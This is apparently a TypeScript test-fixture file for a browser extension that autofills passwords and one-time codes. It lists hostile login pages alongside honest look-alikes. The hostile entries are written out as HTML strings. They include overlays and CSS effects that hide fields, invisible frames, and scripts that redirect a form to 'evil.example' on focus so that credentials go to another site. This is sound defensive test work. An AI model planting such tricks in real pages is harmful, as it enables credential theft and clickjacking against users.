// Pages that want to be filled in where their person does not see it, and pages that look like them and are honest.
import { FORM } from "./extended.ts";

/** What it is, its body, and what the extension says of its password or token; `null` where it is filled in. */
export type Hostile = [what: string, body: string, why: string | null];

const OVER = "something lies over it";
const EFFECT = "an effect of the page may hide it";
const FRAME = "its frame cannot be seen there";
const ADDRESS = "its form would put it into the address of the next page";
const SENT = "its form is sent to another site";

const PASSWORD = 'id="pass"';
const styled = (style: string) => FORM.replace(PASSWORD, `${PASSWORD} style="${style}"`);
const within = (style: string) => `<div style="${style}">${FORM}</div>`;
const cover = (style: string, more = "") =>
  `<div style="position:fixed;left:0;top:0;width:100%;height:100%;background:#fff;${style}" ${more}></div>`;
const shadow = (mode: string, host: string, body: string) =>
  `<x-host style="${host}"></x-host><script>(window.closedTree = document.querySelector("x-host").attachShadow({ mode: "${mode}" })).innerHTML = ${JSON.stringify(body).replaceAll("</", "<\\/")};</script>`;
const popover = (style: string) =>
  `<div popover="manual" id="pop" style="${style}">x</div><script>pop.showPopover()</script>`;

/** What is drawn over a field, whether or not a press goes through it. */
export const covers: Hostile[] = [
  ["lets the pointer through", FORM + cover("pointer-events:none"), OVER],
  ["does so in its own style", FORM + cover("pointer-events:none!important"), OVER],
  [
    "would do so by and by",
    `<style>#c{pointer-events:none;transition:pointer-events 99s allow-discrete}</style>${FORM}${cover("", 'id="c"')}`,
    OVER,
  ],
  ["is inert", FORM + cover("", "inert"), OVER],
  ["is inert by its style", FORM + cover("interactivity:inert"), OVER],
  [
    "stands beside an element",
    `<style>body::after{content:"";position:fixed;inset:0;background:#fff;pointer-events:none}</style>${FORM}`,
    OVER,
  ],
  ["stands in a closed shadow tree", FORM + shadow("closed", "", cover("pointer-events:none!important")), OVER],
  ["lies over a shadow tree", shadow("open", "display:block", FORM) + cover("pointer-events:none"), OVER],
  ["lies over a closed shadow tree", shadow("closed", "display:block", FORM) + cover("pointer-events:none"), OVER],
  [
    "lies under something clear of the shadow tree",
    shadow("open", "", `${FORM}<p style="position:fixed;inset:0;z-index:9;margin:0;pointer-events:none"></p>`) +
      cover("pointer-events:none;z-index:5"),
    OVER,
  ],
  ["is a popover", FORM + popover("inset:0;width:100%;height:100%;pointer-events:none"), OVER],
  [
    "is behind a popover",
    `<style>#pop::backdrop{background:#fff;pointer-events:none}</style>${FORM}${popover("inset:auto 0 0 auto")}`,
    OVER,
  ],
  [
    "is a popover over a dialog",
    `<dialog id="d">${FORM}</dialog>${popover("inset:0;width:100%;height:100%").replace("pop.", "d.showModal();pop.")}`,
    OVER,
  ],
  [
    "is a frame",
    `${FORM}<iframe srcdoc="Hello" style="position:fixed;inset:0;width:100%;height:100%;pointer-events:none"></iframe>`,
    OVER,
  ],
  ["is a far shadow", `${FORM}<div style="position:fixed;right:0;bottom:0;box-shadow:0 0 0 9999px #fff">x</div>`, OVER],
  ["is a far outline", `${FORM}<div style="position:fixed;right:0;bottom:0;outline:9999px solid #fff">x</div>`, OVER],
  ["is a thick border", FORM + cover("background:none;border:2000px solid #fff;pointer-events:none"), OVER],
  ["is a shade within", FORM + cover("background:none;box-shadow:inset 0 0 0 2000px #fff;pointer-events:none"), OVER],
  [
    "leaves the middle free",
    `${FORM}<script>const b = pass.getBoundingClientRect();
      for (const [left, width] of [[b.left, b.width / 2 - 4], [b.left + b.width / 2 + 4, b.width / 2]]) {
        const one = document.createElement("div");
        one.style.cssText = "position:fixed;background:#fff;top:" + b.top + "px;height:" + b.height + "px;left:" + left + "px;width:" + width + "px";
        document.body.append(one);
      }</script>`,
    OVER,
  ],
  ["is a modal dialog", `${FORM}<dialog id="d">Hello</dialog><script>d.showModal()</script>`, OVER],
  ["is nothing, since the form is inert", `<div inert>${FORM}</div>`, OVER],
];

/** What makes a field be drawn as something else, or not at all. */
export const effects: Hostile[] = [
  ["a mask", within("mask:linear-gradient(transparent,transparent)"), EFFECT],
  ["a blur", within("filter:blur(40px)"), EFFECT],
  ["darkness", within("filter:brightness(0)"), EFFECT],
  ["darkness by and by", `<div style="filter:brightness(.6)">${within("filter:brightness(.6)")}</div>`, EFFECT],
  ["no contrast", within("filter:contrast(0)"), EFFECT],
  ["half a negative", within("filter:invert(.5)"), EFFECT],
  [
    "a filter of its own",
    `<svg width="0" height="0"><filter id="f"><feFlood flood-color="#fff"/></filter></svg>${within("filter:url(#f)")}`,
    EFFECT,
  ],
  ["a blend", within("mix-blend-mode:lighten;background:#000"), EFFECT],
  ["a clip", within("clip-path:polygon(0 0,0 0,0 0)"), OVER],
  ["a scale", within("transform:scale(.3)"), "it is too small to be seen"],
  ["a place outside", within("position:fixed;left:-500px;top:0"), "it lies outside of the window"],
  ["clear letters", styled("color:transparent;background:none;border:0"), "what is typed there cannot be seen"],
  ["letters like dust", styled("font-size:1px;width:200px;height:20px"), "what is typed there cannot be seen"],
  [
    "a pale slot of a closed shadow tree",
    `<x-host>${FORM}</x-host><script>document.querySelector("x-host").attachShadow({ mode: "closed" }).innerHTML =
      '<div style="opacity:.2"><slot></slot></div>'</script>`,
    "it is transparent",
  ],
];

const frame = (style: string, more = 'src="/inner"') =>
  `<p>Welcome</p><iframe width="600" height="400" style="${style}" ${more}></iframe>`;

/** Frames of the same origin whose form nobody sees. `/inner` is the form. */
export const frames: Hostile[] = [
  ["filtered away", frame("filter:opacity(.01)"), FRAME],
  ["masked", frame("mask:linear-gradient(transparent,transparent)"), FRAME],
  ["under what lets the pointer through", frame("") + cover("pointer-events:none"), FRAME],
  ["in a pale shadow host", shadow("open", "display:block;opacity:.05", frame("")), FRAME],
  ["in a shadow tree under a cover", shadow("open", "display:block", frame("")) + cover(""), FRAME],
  ["scaled to a speck", frame("transform:scale(.2);transform-origin:0 0"), "it is too small to be seen"],
  [
    "of a blob, whose form is sent nowhere",
    `${frame("", 'id="f"')}<script>f.src = URL.createObjectURL(new Blob([${JSON.stringify(FORM).replaceAll("</", "<\\/")}], { type: "text/html" }))</script>`,
    SENT,
  ],
  [
    "seen as it is, at another size",
    frame("transform:scale(.8);transform-origin:0 0;padding:30px;border:9px solid"),
    null,
  ],
  [
    "written by its page",
    `${frame("", 'id="f"')}<script>f.contentDocument.write(${JSON.stringify(FORM).replaceAll("</", "<\\/")}); f.contentDocument.close()</script>`,
    null,
  ],
];

const answering = (script: string) =>
  `${FORM}<div id="cov" style="position:fixed;inset:0;background:#fff;display:none"></div><script>${script}</script>`;

/** Pages that become something else between the look and the text. */
export const swaps: Hostile[] = [
  ["shows it in the open", answering(`pass.onfocus = () => { pass.type = "text"; }`), "it is no password field"],
  ["covers it", answering(`pass.onfocus = () => { cov.style.display = "block"; }`), OVER],
  ["sends it elsewhere", answering(`pass.onfocus = () => { pass.form.action = "https://evil.example/"; }`), SENT],
  ["makes it shorter", answering(`pass.onfocus = () => { pass.maxLength = 4; }`), "it takes 4 characters at most"],
  ["covers it as the name is typed", answering(`user.oninput = () => { cov.style.display = "block"; }`), OVER],
  [
    "asks for a new password",
    answering(`user.oninput = () => {
      pass.autocomplete = "new-password"; pass.labels[0].firstChild.data = "New password ";
      const more = pass.cloneNode(); more.id = "more"; pass.after(more);
    }`),
    "the page has changed meanwhile",
  ],
  ["takes it out of the page", answering(`pass.onfocus = () => { pass.remove(); }`), "the page has changed meanwhile"],
];

/** Forms that are not what their names say. */
export const forms: Hostile[] = [
  ["a base elsewhere", `<base href="https://evil.example/">${FORM}`, SENT],
  [
    "a button elsewhere",
    `${FORM.replace("<form", '<form id="f"')}<button form="f" formaction="https://evil.example/">x</button>`,
    SENT,
  ],
  [
    "a field that is called action",
    FORM.replace("<button>", '<input type="hidden" name="action"><button>').replace("/login", "https://evil.example/"),
    SENT,
  ],
  [
    "a text that pretends",
    `${FORM.replace('type="password"', 'style="-webkit-text-security:disc"')}<script>Object.defineProperty(pass, "type", { value: "password" })</script>`,
    "it is no password field",
  ],
  ["a method that writes into the address", FORM.replace('"post"', '"GET"'), ADDRESS],
  ["a button that does so", FORM.replace("<button>", '<button formmethod="get">'), ADDRESS],
  ["such a method, and a field that is not sent", FORM.replace('"post"', '"get"').replace('name="pass" ', ""), null],
  ["no method, which is left to scripts", FORM.replace('method="post" action="/login"', ""), null],
  ["a window of its own", FORM.replace("<form", '<form target="_blank"'), null],
  ["a blob", FORM.replace("/login", "blob:http://127.0.0.1/1"), SENT],
  ["fewer characters", FORM.replace(PASSWORD, `${PASSWORD} maxlength="5"`), "it takes 5 characters at most"],
  [
    "pictures that are called as what is asked of the page",
    ["baseURI", "querySelectorAll", "elementsFromPoint", "defaultView", "body", "documentElement", "title"]
      .map((name) => `<img name="${name}" alt="">`)
      .join("") + FORM,
    null,
  ],
  [
    "a field that is called as what is asked of it",
    FORM.replace("<button>", '<input type="hidden" name="getRootNode"><button>'),
    null,
  ],
];

const page = (body: string) =>
  `<h1>Enter the code of your authenticator app</h1><form>${body}<button>Verify</button></form>`;
const digits = (each: (place: number) => string) => [1, 2, 3, 4, 5, 6].map(each).join("");
const digit = (place: number) =>
  `<input id="d${place}" class="digit" maxlength="1" inputmode="numeric" style="width:30px">`;
const drawn = page(`<div style="position:relative;width:240px;height:40px">
  <input class="digit" autocomplete="one-time-code" maxlength="6" style="position:absolute;inset:0;width:240px;height:40px;opacity:0">
  ${digits((place) => `<div style="position:absolute;left:${place * 40 - 40}px;top:0;width:36px;height:38px;border:1px solid;pointer-events:none"></div>`)}
</div>`);

/** Pages that ask for a token. */
export const tokens: Hostile[] = [
  [
    "hidden boxes among others",
    page(
      digits((place) => digit(place) + digit(place).replace("width", "display:none;width").replace("digit", "decoy")),
    ),
    null,
  ],
  ["boxes that are drawn", drawn, null],
  ["pale ones", `<div style="opacity:.2">${drawn}</div>`, "it is transparent"],
  ["ones under a cover", drawn + cover("pointer-events:none"), OVER],
  [
    "a line for a number",
    page(`<input class="digit" aria-label="Code" type="number" autocomplete="one-time-code">`),
    null,
  ],
  [
    "boxes that are sent elsewhere after the first",
    `${page(digits(digit))}<script>d1.oninput = () => { d1.form.action = "https://evil.example/"; }</script>`,
    SENT,
  ],
];

/** What honest pages do. */
export const honest: Hostile[] = [
  [
    "shows what was typed at a button within",
    FORM.replace("<label>Password", '<label style="position:relative;display:inline-block">Password').replace(
      "</label>\n  <button",
      '<button type="button" style="position:absolute;right:0;bottom:0;width:28px;height:20px;background:#ccc">o</button></label>\n  <button',
    ),
    null,
  ],
  [
    "lets its label float over the field",
    FORM.replace(
      "<label>Password <input",
      '<div style="position:relative;width:240px"><label for="pass" style="position:absolute;left:8px;top:8px;pointer-events:none">Password of your account</label><input style="width:100%;height:40px;border:0;background:none"',
    ).replace(
      "</label>\n  <button",
      '<fieldset style="position:absolute;inset:-5px 0 0;pointer-events:none;border:1px solid;margin:0"></fieldset></div>\n  <button',
    ),
    null,
  ],
  [
    "has a grain over all",
    `${FORM}<style>body::before{content:"";position:fixed;inset:0;pointer-events:none;opacity:.05;z-index:9;background:repeating-linear-gradient(#000,#fff 2px)}</style>`,
    null,
  ],
  [
    "has a picture behind",
    `<div style="position:fixed;inset:0;z-index:-1;pointer-events:none;background:linear-gradient(#eef,#fff)"></div>${FORM}`,
    null,
  ],
  [
    "keeps a place for notes",
    FORM +
      shadow(
        "open",
        "position:fixed;inset:0;pointer-events:none;z-index:9",
        '<div style="position:fixed;inset:0"></div>',
      ),
    null,
  ],
  ["is dark by a filter", `<style>html{filter:invert(1) hue-rotate(180deg)}</style>${FORM}`, null],
  ["asks in a dialog", `<p>Behind</p><dialog id="d">${FORM}</dialog><script>d.showModal()</script>`, null],
  [
    "asks over what is inert",
    `<main inert style="position:absolute;inset:0;background:#ddd">Shop</main><div role="dialog" style="position:fixed;inset:50px;background:#fff">${FORM}</div>`,
    null,
  ],
  ["asks far below", `<div style="height:4000px"></div>${FORM}`, null],
  ["asks in a closed shadow tree", shadow("closed", "display:block", FORM), null],
];
